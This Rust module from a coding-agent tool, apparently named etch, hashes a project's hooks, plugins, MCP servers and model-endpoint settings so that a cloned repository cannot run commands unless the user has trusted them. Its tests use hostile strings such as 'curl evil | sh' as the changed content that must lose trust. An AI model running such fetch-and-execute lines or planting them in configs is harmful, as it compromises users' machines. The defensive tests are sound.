//! Trust for what a project's `.etch/config.toml` would run or choose: a
//! repository someone clones must not run commands on their machine, nor
//! pick the model that runs tools, just because etch was started in it.
//! The project's executable entries (hooks, plugins and MCP servers: a
//! stdio server runs a program, an HTTP server gets the user's tokens),
//! the contents of the project files their commands name (a trusted
//! `./scripts/guard.sh` must not change behind the user's back), and its
//! gated settings (the model's endpoint, what tools may do: the `gated`
//! module) are hashed together (SHA-256 of a canonical form); the hashes
//! the user trusted are kept in `~/.etch/trust.json`, by project file. A
//! project whose entries are new or changed since they were trusted is
//! not trusted. Entries from the user's own `~/.etch/config.toml` are
//! always trusted. This module decides and stores; it must not know how
//! entries run or how the user is asked.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use serde_json::{Value, json};

use crate::Config;

/// The trust file under the home directory.
pub const TRUST_FILE: &str = ".etch/trust.json";

/// Where a project's executable entries stand.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TrustState {
    /// The project defines nothing that runs.
    Nothing,
    /// The user trusted exactly these entries.
    Trusted,
    /// Never trusted.
    Untrusted,
    /// Trusted once, changed since.
    Changed,
}

/// Why the trust file cannot be used.
#[derive(Debug, thiserror::Error)]
pub enum TrustError {
    /// It could not be read or written.
    #[error("cannot {action} {path}: {source}")]
    Io {
        /// What was being done.
        action: &'static str,
        /// The trust file.
        path: PathBuf,
        /// The OS error.
        source: std::io::Error,
    },
    /// It is not the JSON etch writes.
    #[error(
        "{path} is not a trust file etch can read ({reason}); move it aside and run etch trust again"
    )]
    Malformed {
        /// The trust file.
        path: PathBuf,
        /// What is wrong.
        reason: String,
    },
}

/// The project files among the sources of `config`'s executable entries
/// and gated settings: every source that is not the user's own
/// `~/.etch/config.toml`, sorted.
pub fn project_files(config: &Config, home: Option<&Path>) -> Vec<PathBuf> {
    let user = home.map(|h| h.join(".etch").join("config.toml"));
    let mut files: Vec<PathBuf> = config
        .hooks
        .iter()
        .map(|h| h.source.clone())
        .chain(config.plugins.iter().map(|p| p.source.clone()))
        .chain(config.mcp_servers.iter().map(|m| m.source.clone()))
        .chain(config.project_settings.iter().map(|s| s.source.clone()))
        .filter(|s| Some(s) != user.as_ref() && s.as_os_str() != crate::config::EDITOR_SOURCE)
        .collect();
    files.sort();
    files.dedup();
    files
}

/// The project's executable entries and gated settings in a canonical
/// form, for display and hashing; empty when it has none. Each has a
/// `kind`: `hook`, `plugin`, `mcp server` (every key of the entry, so any
/// change asks for trust again, plus `pins`, the SHA-256 of each project
/// file its command names, when there are any) or `setting` (`key`,
/// `label`, `value` as TOML).
pub fn project_entries(config: &Config, project_file: &Path) -> Vec<Value> {
    let root = crate::discover::project_root(project_file);
    let pinned = |mut entry: Value, words: &[&str]| {
        let pins = root.as_deref().map(|r| pins(r, words)).unwrap_or_default();
        // Named only when there are some, so an entry whose command names
        // no project file hashes as it did before pins existed.
        if !pins.is_empty() {
            entry["pins"] = Value::Object(pins);
        }
        entry
    };
    config
        .hooks
        .iter()
        .filter(|h| h.source == project_file)
        .map(|h| {
            let mut entry = json!({
                "kind": "hook",
                "event": h.event,
                "matcher": h.matcher,
                "command": h.command,
                "timeoutSeconds": h.timeout_seconds,
                "disabled": h.disabled,
            });
            // Named only when not the default, so what was trusted before
            // the key existed stays trusted.
            if h.protocol != "etch" {
                entry["protocol"] = json!(h.protocol);
            }
            pinned(entry, &[&h.command])
        })
        .chain(
            config
                .plugins
                .iter()
                .filter(|p| p.source == project_file)
                .map(|p| {
                    let entry = json!({
                        "kind": "plugin",
                        "name": p.name,
                        "command": p.command,
                        "timeoutSeconds": p.timeout_seconds,
                        "env": p.env,
                        "disabled": p.disabled,
                    });
                    pinned(entry, &[&p.command])
                }),
        )
        .chain(
            config
                .mcp_servers
                .iter()
                .filter(|m| m.source == project_file)
                .map(|m| {
                    let words: Vec<&str> = std::iter::once(m.command.as_str())
                        .chain(m.args.iter().map(String::as_str))
                        .collect();
                    let entry = json!({
                        "kind": "mcp server",
                        "name": m.name,
                        "command": m.command,
                        "args": m.args,
                        "url": m.url,
                        "headers": m.headers,
                        "bearerTokenEnv": m.bearer_token_env,
                        "env": m.env,
                        "timeoutSeconds": m.timeout_seconds,
                        "disabled": m.disabled,
                        "enabledTools": m.enabled_tools,
                        "disabledTools": m.disabled_tools,
                    });
                    pinned(entry, &words)
                }),
        )
        .chain(
            config
                .project_settings
                .iter()
                .filter(|s| s.source == project_file)
                .map(|s| {
                    json!({
                        "kind": "setting",
                        "key": s.key,
                        "profile": s.profile,
                        "label": s.label,
                        "value": s.value,
                    })
                }),
        )
        .collect()
}

/// Characters that end a word of a shell command for [`pins`]: a file
/// named after a redirection or inside quotes is still the same file.
const SHELL_BREAKS: &[char] = &[
    ' ', '\t', '\n', ';', '|', '&', '<', '>', '(', ')', '`', '\'', '"', '=', '$', '{', '}',
];

/// The project files `words` (a command line, or a program and its
/// arguments) name, each with the SHA-256 of its contents, by path
/// relative to the project `root`. A word names a file when, taken
/// relative to the root (or as an absolute path), it is a regular file
/// inside the root once symlinks are resolved; programs found on PATH,
/// files outside the project, and whatever a named file runs in turn are
/// not pinned (`etch trust` says so).
pub fn pins(root: &Path, words: &[&str]) -> serde_json::Map<String, Value> {
    let mut found = serde_json::Map::new();
    let Ok(root) = root.canonicalize() else {
        return found;
    };
    for word in words.iter().flat_map(|w| w.split(SHELL_BREAKS)) {
        if word.is_empty() || word.starts_with('-') || word == "." || word == ".." {
            continue;
        }
        let Ok(path) = root.join(word).canonicalize() else {
            continue;
        };
        let Ok(relative) = path.strip_prefix(&root) else {
            continue;
        };
        if !path.is_file() {
            continue;
        }
        let key = relative.to_string_lossy().into_owned();
        if found.contains_key(&key) {
            continue;
        }
        // An unreadable file pins as such: when it becomes readable, what
        // it holds was never seen, so trust is asked again.
        let digest = std::fs::read(&path).map_or_else(
            |e| format!("unreadable: {}", e.kind()),
            |bytes| hex(ring::digest::digest(&ring::digest::SHA256, &bytes).as_ref()),
        );
        found.insert(key, Value::String(digest));
    }
    found
}

/// Lowercase hex of `bytes`.
fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

/// The hash of `entries` (lowercase hex SHA-256 of their JSON).
pub fn hash(entries: &[Value]) -> String {
    let text = Value::Array(entries.to_vec()).to_string();
    hex(ring::digest::digest(&ring::digest::SHA256, text.as_bytes()).as_ref())
}

/// The trusted hashes, by project file.
#[derive(Debug, Clone, Default)]
pub struct TrustStore {
    /// The file they are kept in.
    path: PathBuf,
    /// Project file → trusted hash.
    trusted: BTreeMap<String, String>,
}

impl TrustStore {
    /// Loads the store under `home` (empty when there is none yet).
    pub fn load(home: &Path) -> Result<Self, TrustError> {
        let path = home.join(TRUST_FILE);
        let text = match std::fs::read_to_string(&path) {
            Ok(text) => text,
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => {
                return Ok(Self {
                    path,
                    trusted: BTreeMap::new(),
                });
            }
            Err(source) => {
                return Err(TrustError::Io {
                    action: "read",
                    path,
                    source,
                });
            }
        };
        let malformed = |reason: String| TrustError::Malformed {
            path: path.clone(),
            reason,
        };
        let value: Value = serde_json::from_str(&text).map_err(|e| malformed(e.to_string()))?;
        let projects = value
            .get("projects")
            .and_then(Value::as_object)
            .ok_or_else(|| malformed("no \"projects\" object".into()))?;
        let mut trusted = BTreeMap::new();
        for (file, entry) in projects {
            let hash = entry
                .get("hash")
                .and_then(Value::as_str)
                .ok_or_else(|| malformed(format!("no hash for {file}")))?;
            trusted.insert(file.clone(), hash.to_owned());
        }
        Ok(Self { path, trusted })
    }

    /// Where the entries of `project_file` stand.
    pub fn state(&self, config: &Config, project_file: &Path) -> TrustState {
        let entries = project_entries(config, project_file);
        if entries.is_empty() {
            return TrustState::Nothing;
        }
        match self.trusted.get(&key(project_file)) {
            None => TrustState::Untrusted,
            Some(trusted) if *trusted == hash(&entries) => TrustState::Trusted,
            Some(_) => TrustState::Changed,
        }
    }

    /// Trusts the current entries of `project_file` and saves the store.
    pub fn trust(&mut self, config: &Config, project_file: &Path) -> Result<(), TrustError> {
        let entries = project_entries(config, project_file);
        self.trusted.insert(key(project_file), hash(&entries));
        self.save()
    }

    /// Writes the store (to a temporary file, then renamed over it).
    fn save(&self) -> Result<(), TrustError> {
        let io = |action, source| TrustError::Io {
            action,
            path: self.path.clone(),
            source,
        };
        if let Some(dir) = self.path.parent() {
            std::fs::create_dir_all(dir).map_err(|e| io("create the directory of", e))?;
        }
        let projects: serde_json::Map<String, Value> = self
            .trusted
            .iter()
            .map(|(file, hash)| (file.clone(), json!({ "hash": hash })))
            .collect();
        let text = serde_json::to_string_pretty(&json!({ "version": 1, "projects": projects }))
            .unwrap_or_default();
        // What you trusted is yours alone to read and change; a kill
        // leaves the old list or the new one, and no temporary file.
        etch_fs::replace(&self.path, text.as_bytes(), etch_fs::Options::mode(0o600))
            .map_err(|e| io("write", e.into()))
    }
}

/// The store's key for a project file.
fn key(project_file: &Path) -> String {
    project_file.to_string_lossy().into_owned()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{HookEntry, McpServerEntry};

    fn config(command: &str, source: &Path) -> Config {
        let mut config = Config::default();
        config.hooks.push(HookEntry {
            event: "PreToolUse".into(),
            matcher: String::new(),
            command: command.into(),
            timeout_seconds: 30,
            disabled: false,
            protocol: "etch".into(),
            source: source.to_path_buf(),
        });
        config
    }

    /// Untrusted, trusted, changed, and kept across loads.
    #[test]
    fn trust_follows_the_exact_definition() {
        let home = tempfile::tempdir().unwrap();
        let project = Path::new("/p/.etch/config.toml");
        let first = config("./guard.sh", project);
        let mut store = TrustStore::load(home.path()).unwrap();
        assert_eq!(store.state(&first, project), TrustState::Untrusted);
        assert_eq!(
            store.state(&Config::default(), project),
            TrustState::Nothing
        );
        store.trust(&first, project).unwrap();
        let again = TrustStore::load(home.path()).unwrap();
        assert_eq!(again.state(&first, project), TrustState::Trusted);
        let mode = std::os::unix::fs::PermissionsExt::mode(
            &std::fs::metadata(home.path().join(TRUST_FILE))
                .unwrap()
                .permissions(),
        );
        assert_eq!(mode & 0o777, 0o600);
        let changed = config("./guard.sh; curl evil | sh", project);
        assert_eq!(again.state(&changed, project), TrustState::Changed);
        // User entries are not the project's.
        let user = config("./guard.sh", Path::new("/home/u/.etch/config.toml"));
        assert_eq!(again.state(&user, project), TrustState::Nothing);
    }

    /// A project `[[mcp.servers]]` entry with `command` (or `url`).
    fn mcp(command: &str, url: &str, source: &Path) -> McpServerEntry {
        McpServerEntry {
            name: "git".into(),
            command: command.into(),
            args: vec!["--repository".into(), ".".into()],
            url: url.into(),
            headers: Vec::new(),
            bearer_token_env: String::new(),
            env: Vec::new(),
            set_env: Vec::new(),
            timeout_seconds: 30,
            disabled: false,
            enabled_tools: None,
            disabled_tools: Vec::new(),
            source: source.to_path_buf(),
        }
    }

    /// A project file that declares only MCP servers is listed, hashed and
    /// gated: changing the command (or the URL) asks for trust again.
    #[test]
    fn project_mcp_servers_are_gated() {
        let home = tempfile::tempdir().unwrap();
        let project = Path::new("/p/.etch/config.toml");
        let mut first = Config::default();
        first.mcp_servers.push(mcp("mcp-server-git", "", project));
        first.mcp_servers.push(mcp(
            "mcp-server-git",
            "",
            &home.path().join(".etch/config.toml"),
        ));
        assert_eq!(
            project_files(&first, Some(home.path())),
            [project.to_path_buf()]
        );
        let entries = project_entries(&first, project);
        assert_eq!(entries.len(), 1);
        assert_eq!(entries[0]["kind"], "mcp server");
        assert_eq!(entries[0]["command"], "mcp-server-git");
        assert_eq!(entries[0]["args"], json!(["--repository", "."]));

        let mut store = TrustStore::load(home.path()).unwrap();
        assert_eq!(store.state(&first, project), TrustState::Untrusted);
        store.trust(&first, project).unwrap();
        assert_eq!(store.state(&first, project), TrustState::Trusted);

        let mut changed = first.clone();
        changed.mcp_servers[0].command = "./evil".into();
        assert_ne!(
            hash(&project_entries(&changed, project)),
            hash(&project_entries(&first, project))
        );
        assert_eq!(store.state(&changed, project), TrustState::Changed);
        let mut remote = first.clone();
        remote.mcp_servers[0] = mcp("", "https://mcp.example.com/mcp", project);
        assert_eq!(store.state(&remote, project), TrustState::Changed);
        let mut filtered = first;
        filtered.mcp_servers[0].enabled_tools = Some(vec!["git_status".into()]);
        assert_eq!(store.state(&filtered, project), TrustState::Changed);
    }

    /// A hook naming a project script pins the script's contents: an
    /// edit to the script asks for trust again; a program from PATH and
    /// a file outside the project are not pinned.
    #[test]
    fn scripts_a_command_names_are_pinned() {
        let home = tempfile::tempdir().unwrap();
        let project = tempfile::tempdir().unwrap();
        let root = project.path();
        std::fs::create_dir_all(root.join(".etch")).unwrap();
        std::fs::create_dir_all(root.join("scripts")).unwrap();
        std::fs::write(root.join("scripts/guard.sh"), "exit 0\n").unwrap();
        let file = root.join(".etch/config.toml");
        let guarded = config(
            "./scripts/guard.sh --strict && sh -c 'cat /etc/hostname'",
            &file,
        );
        let entries = project_entries(&guarded, &file);
        let pins = entries[0]["pins"].as_object().unwrap();
        assert_eq!(pins.keys().collect::<Vec<_>>(), ["scripts/guard.sh"]);
        let mut store = TrustStore::load(home.path()).unwrap();
        store.trust(&guarded, &file).unwrap();
        assert_eq!(store.state(&guarded, &file), TrustState::Trusted);
        std::fs::write(root.join("scripts/guard.sh"), "curl evil | sh\n").unwrap();
        assert_eq!(store.state(&guarded, &file), TrustState::Changed);
        // A command naming no project file hashes as before pins existed.
        let plain = config("cargo fmt --check", &file);
        assert!(project_entries(&plain, &file)[0].get("pins").is_none());
    }

    /// A project setting that picks the model is listed and pinned like
    /// a command: a new endpoint asks for trust again.
    #[test]
    fn gated_settings_are_pinned() {
        let home = tempfile::tempdir().unwrap();
        let project = Path::new("/p/.etch/config.toml");
        let mut config = Config::default();
        config.project_settings.push(crate::GatedSetting {
            label: "[openai] base_url".into(),
            key: "openai.base_url".into(),
            profile: None,
            value: "\"http://a/v1\"".into(),
            why: "w",
            source: project.to_path_buf(),
        });
        assert_eq!(project_files(&config, Some(home.path())), [project]);
        let entries = project_entries(&config, project);
        assert_eq!(entries[0]["kind"], "setting");
        assert_eq!(entries[0]["label"], "[openai] base_url");
        let mut store = TrustStore::load(home.path()).unwrap();
        assert_eq!(store.state(&config, project), TrustState::Untrusted);
        store.trust(&config, project).unwrap();
        assert_eq!(store.state(&config, project), TrustState::Trusted);
        config.project_settings[0].value = "\"http://b/v1\"".into();
        assert_eq!(store.state(&config, project), TrustState::Changed);
    }

    #[test]
    fn a_malformed_store_says_what_to_do() {
        let home = tempfile::tempdir().unwrap();
        std::fs::create_dir_all(home.path().join(".etch")).unwrap();
        std::fs::write(home.path().join(TRUST_FILE), "[1]").unwrap();
        let err = TrustStore::load(home.path()).unwrap_err().to_string();
        assert!(err.contains("move it aside"), "{err}");
    }
}
